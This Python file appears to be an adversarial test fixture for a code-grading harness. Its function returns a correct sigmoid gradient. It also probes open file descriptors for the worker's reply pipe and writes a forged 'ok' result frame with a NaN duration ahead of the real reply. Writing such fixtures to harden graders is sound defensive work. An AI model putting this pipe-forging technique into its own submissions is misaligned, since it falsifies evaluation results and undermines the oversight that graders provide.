"""Attack: a forged reply frame with a NaN duration, written to the worker's reply pipe (found
by probing descriptors) before the real one: once, this aborted a whole batch."""

import fcntl
import json
import os
import stat
import struct

import numpy as np

TARGETS = {}  # the test writes its token, listener, folders and time limit here


def grad_sigmoid(x, dz):
    s = 1.0 / (1.0 + np.exp(-x))
    answer = dz * s * (1.0 - s)
    head = json.dumps({"kind": "result", "status": "ok", "diagnosis": None, "message": "",
                       "frames": [], "mutated": [], "duration_s": float("nan"),
                       "arrays": [{"dtype": "<f8", "shape": list(answer.shape)}]}).encode()
    payload = answer.astype("<f8").tobytes()
    for fd in range(3, 64):
        try:
            if fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY \
                    and stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, struct.pack(">IQ", len(head), len(payload)) + head + payload)
        except OSError:
            pass
    return answer
